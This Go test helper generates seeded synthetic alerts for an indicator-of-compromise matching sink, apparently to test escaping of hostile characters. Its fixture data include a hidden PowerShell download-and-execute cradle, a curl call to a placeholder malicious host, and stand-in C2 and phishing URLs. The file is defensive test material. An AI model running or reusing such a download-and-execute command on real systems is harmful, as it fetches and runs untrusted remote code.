package sinktest

import (
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/iocwatch/iocwatch/sink"
)

// base is the event time of the first generated alert.
var base = time.Date(2026, 11, 26, 9, 13, 58, 120_000_000, time.UTC)

var (
	devices = []string{
		"ws-0142.corp.example", "srv-db01.corp.example", "LAPTOP-ÅSA-7",
		"ws|pipe=eq.corp.example", "kiosk\\lobby", "build-agent-03",
	}
	groups   = []string{"Workstations", "Servers", "Finance \"EU\"", "Lab=1|2", "", "Zürich ☃"}
	accounts = []string{"ana", "svc_backup", "NT AUTHORITY\\SYSTEM", "jörg", "o'brien", ""}
	procs    = []struct{ name, folder, cmd string }{
		{"rundll32.exe", `c:\users\ana\appdata\local\temp\rundll32.exe`, `rundll32.exe c:\users\ana\appdata\local\temp\a.dll,Start`},
		{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://x/p|a=b')\""},
		{"chrome.exe", `C:\Program Files\Google\Chrome\Application\chrome.exe`, `"chrome.exe" --type=utility --lang=de`},
		{"svchost.exe", `c:\windows\system32\svchost.exe`, "svchost.exe -k netsvcs -p -s Schedule"},
		{"curl", "/usr/bin/curl", "curl -s https://update.bad-cdn.example/x?a=1&b=2\n--next"},
		{"Überwachung.exe", `D:\Tools\Überwachung\Überwachung.exe`, "Überwachung.exe /ziel=\"café\" \\\\server\\share"},
	}
	tables  = []string{"DeviceNetworkEvents", "DeviceEvents"}
	actions = map[string][]string{
		"DeviceNetworkEvents": {"ConnectionSuccess", "ConnectionFailed", "HttpConnectionInspected", "SslConnectionInspected"},
		"DeviceEvents":        {"DnsQueryResponse", "BrowserLaunchedToOpenUrl", "SmartScreenUrlWarning", "ExploitGuardNetworkProtectionBlocked"},
	}
	ipv4s = []string{"203.0.113.77", "198.51.100.7", "192.0.2.200", "203.0.113.5"}
	ipv6s = []string{"2001:db8::dead:beef", "2a02:cf40::", "2001:db8:4:5::1"}
	hosts = []string{"update.bad-cdn.example", "c2.evil.example", "xn--bcher-kva.example", "login.micros0ft.example"}
	urls  = []string{
		"https://update.bad-cdn.example/gate.php?id=42&x=|=",
		"http://c2.evil.example:8080/a/b",
		"https://login.micros0ft.example/owa/?q=\"quoted\"",
		"http://203.0.113.77/bin/payload.exe",
	}
	sources    = []string{"feodotracker", "urlhaus", "threatfox", "misp:ACME CERT", "stix|bundle=7"}
	severities = []string{"high", "medium", "low", "critical", "informational", "", "Hoch"}
	tagSets    = [][]string{nil, {"botnet_cc"}, {"Emotet", "heodo"}, {"phishing", "tag|with=pipe"}, {"mojibake-Ã©", "line\nbreak"}}
	descs      = []string{
		"", "Emotet C2 server", "Phishing kit \"O365\" | credential harvest",
		"multi\nline\r\ndescription", "Serveur de commande — contrôle", "back\\slash=equals",
	}
)

// Alerts returns n realistic, varied alerts, the same for the same seed.
// AlertIDs are distinct (each alert has its own ReportId) and computed with
// sink.NewAlertID. About one alert in five is a retro alert and one in seven
// a suppression summary; hostile characters ('|', '=', '\\', CR/LF, quotes,
// non-ASCII) appear in device names, groups, accounts, command lines, URLs,
// indicator sources, tags and descriptions. Times are UTC with sub-second
// precision that survives RFC 3339 round trips.
func Alerts(n int, seed int64) []sink.Alert {
	r := rand.New(rand.NewPCG(uint64(seed), 0x10c0a7c4))
	pick := func(s []string) string { return s[r.IntN(len(s))] }
	out := make([]sink.Alert, n)
	for i := range out {
		a := &out[i]
		ts := base.Add(time.Duration(i)*1500*time.Millisecond + time.Duration(r.IntN(10_000_000))*100)
		a.Timestamp = ts
		a.DetectedAt = ts.Add(time.Duration(200+r.IntN(5000)) * time.Millisecond)
		a.Table = tables[r.IntN(len(tables))]
		a.ActionType = pick(actions[a.Table])
		a.DeviceID = fmt.Sprintf("%040x", r.Uint64()^uint64(i))[:40]
		a.DeviceName = pick(devices)
		p := procs[r.IntN(len(procs))]
		a.FileName, a.FolderPath, a.CommandLine = p.name, p.folder, p.cmd
		a.SHA256 = fmt.Sprintf("%016x%016x%016x%016x", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
		a.AccountName = pick(accounts)
		a.LocalIP = fmt.Sprintf("10.20.%d.%d", r.IntN(256), 1+r.IntN(254))
		a.ReportID = int64(1)<<33 + int64(seed%1000)*1_000_000 + int64(i)
		if r.IntN(3) > 0 {
			a.TenantID = "0f8fad5b-d9cb-469f-a165-70867728950e"
		}
		a.MachineGroup = pick(groups)

		switch r.IntN(5) {
		case 0, 1: // an IP hit
			ip := pick(ipv4s)
			if r.IntN(3) == 0 {
				ip = pick(ipv6s)
			}
			a.RemoteIP, a.RemotePort = ip, []int{443, 80, 8080, 53, 0}[r.IntN(5)]
			a.MatchedField, a.MatchedValue = "RemoteIP", ip
			if r.IntN(2) == 0 {
				a.Indicator.Kind, a.Indicator.Value = "ip", ip
			} else {
				a.Indicator.Kind, a.Indicator.Value = "cidr", ip+"/32"
				if len(ip) > 15 {
					a.Indicator.Value = ip + "/128"
				}
			}
			if r.IntN(2) == 0 {
				a.RemoteURL = pick(hosts)
			}
		case 2: // a domain hit on the host of RemoteUrl
			h := pick(hosts)
			a.RemoteIP, a.RemotePort = pick(ipv4s), 443
			a.RemoteURL = "https://" + h + "/index.html"
			if r.IntN(2) == 0 {
				a.RemoteURL = h
			}
			// As the pipeline does: a RemoteUrl hit carries RemoteUrl as
			// Defender gave it, bare host or URL.
			a.MatchedField, a.MatchedValue = "RemoteUrl", a.RemoteURL
			a.Indicator.Kind, a.Indicator.Value = "domain", h[1+indexByte(h, '.'):]
		case 3: // a URL or pattern hit
			u := pick(urls)
			a.RemoteURL, a.RemotePort = u, 443
			a.MatchedField, a.MatchedValue = "RemoteUrl", u
			if r.IntN(2) == 0 {
				a.Indicator.Kind, a.Indicator.Value = "url", u
			} else {
				a.Indicator.Kind, a.Indicator.Value = "pattern", "/gate.php"
			}
		default: // an IP-literal host in RemoteUrl
			u := "http://203.0.113.77/bin/payload.exe"
			a.RemoteURL = u
			a.MatchedField, a.MatchedValue = "RemoteUrl.host", "203.0.113.77"
			a.Indicator.Kind, a.Indicator.Value = "cidr", "203.0.113.0/24"
		}
		a.Indicator.Source = pick(sources)
		a.Indicator.Severity = pick(severities)
		a.Indicator.Confidence = []int{0, 50, 75, 100}[r.IntN(4)]
		if tags := tagSets[r.IntN(len(tagSets))]; tags != nil {
			a.Indicator.Tags = append([]string(nil), tags...)
		}
		a.Indicator.Description = pick(descs)
		if r.IntN(2) == 0 {
			a.Indicator.Reference = "https://feeds.example/ioc/" + fmt.Sprint(r.IntN(100000))
		}
		if r.IntN(5) == 0 {
			a.Retro = true
			a.IndicatorAddedAt = a.DetectedAt.Add(-time.Duration(r.IntN(60)) * time.Second)
		}
		if r.IntN(7) == 0 {
			a.RepeatCount = 1 + r.IntN(500)
			a.FirstSeen = ts
			a.LastSeen = ts.Add(time.Duration(1+r.IntN(600)) * time.Second)
		}
		a.AlertID = sink.NewAlertID(a.DeviceID, a.DeviceName, a.ReportID, a.Timestamp, a.Indicator.Kind, a.Indicator.Value)
	}
	return out
}

func indexByte(s string, c byte) int {
	for i := 0; i < len(s); i++ {
		if s[i] == c {
			return i
		}
	}
	return -1
}
